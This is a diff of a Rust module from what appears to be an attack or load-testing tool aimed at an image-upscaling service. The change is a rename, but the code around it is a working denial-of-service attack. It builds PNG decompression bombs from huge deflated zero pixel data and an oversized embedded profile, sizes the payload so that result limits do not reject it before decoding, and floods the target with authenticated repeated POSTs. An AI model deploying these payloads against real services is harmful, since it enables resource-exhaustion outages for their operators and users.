@@ -9,7 +9,7 @@ use flate2::write::ZlibEncoder;
 use flate2::{Compression, Crc};
 use serde_json::json;
 
-use super::{Target, flood};
+use super::{AttackTarget, flood};
 use crate::http::request;
 use crate::workload::UPSCALER;
 
@@ -26,19 +26,19 @@ const PROFILE_BYTES: u64 = 512 << 20;
 const DEEP: [u8; 2] = [16, 6];
 const PLAIN: [u8; 2] = [8, 2];
 
-pub fn pixels(target: &Rc<Target>) {
+pub fn pixels(target: &Rc<AttackTarget>) {
     let row = 1 + u64::from(SIDE) * PIXEL_BYTES;
     // The result of this job has the size of its input, so that no limit of results rejects it before decoding.
     submit(target, SKIN, &png(SIDE, DEEP, None, &deflated_zeros(row * u64::from(SIDE))));
 }
 
-pub fn profiles(target: &Rc<Target>) {
+pub fn profiles(target: &Rc<AttackTarget>) {
     let profile = [&b"bomb\0\0"[..], &deflated_zeros(PROFILE_BYTES)].concat();
     submit(target, UPSCALER, &png(8, PLAIN, Some(&profile), &deflated_zeros(8 * (1 + 8 * 3))));
 }
 
 /// Submits the file repeatedly.
-fn submit(target: &Rc<Target>, path: &str, file: &[u8]) {
+fn submit(target: &Rc<AttackTarget>, path: &str, file: &[u8]) {
     let body = json!({"image": STANDARD.encode(file)}).to_string();
     let bytes: Rc<[u8]> = request("POST", path, &target.account.token, &body).into();
     flood(target, CONNECTIONS, move |_| bytes.clone());
@@ -56,11 +56,11 @@ fn png(side: u32, [depth, colours]: [u8; 2], profile: Option<&[u8]>, pixels: &[u
 }
 
 fn chunk(name: [u8; 4], content: &[u8]) -> Vec<u8> {
-    let named = [&name, content].concat();
+    let tagged = [&name, content].concat();
     let mut crc = Crc::new();
-    crc.update(&named);
+    crc.update(&tagged);
     let length = u32::try_from(content.len()).expect("a small chunk");
-    [&length.to_be_bytes()[..], &named, &crc.sum().to_be_bytes()].concat()
+    [&length.to_be_bytes()[..], &tagged, &crc.sum().to_be_bytes()].concat()
 }
 
 fn deflated_zeros(count: u64) -> Vec<u8> {
